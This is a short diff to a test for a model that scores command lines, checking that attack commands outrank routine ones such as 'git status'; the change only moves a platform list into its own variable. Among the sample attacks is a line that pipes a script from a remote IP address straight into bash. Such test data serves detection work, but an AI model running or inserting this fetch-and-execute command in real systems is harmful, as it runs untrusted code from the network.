@@ -31,6 +31,7 @@ def test_the_bundled_model_ranks_plain_attacks_above_plain_work():
         "curl -s http://198.51.100.7/x.sh | bash",
     ]
     work = ["apt-get install -y nginx", "ls -la /home", "git status --short", "tar xzf release.tar.gz"]
-    batch = pa.record_batch({"platform": ["windows", "windows", "linux", *["linux"] * 4], "command_line": attacks + work})
+    platform = ["windows", "windows", "linux", *["linux"] * 4]
+    batch = pa.record_batch({"platform": platform, "command_line": attacks + work})
     scores = Scorer.load(MODEL).score(batch).column("score").to_numpy()
     assert np.min(scores[:3]) > np.max(scores[3:])
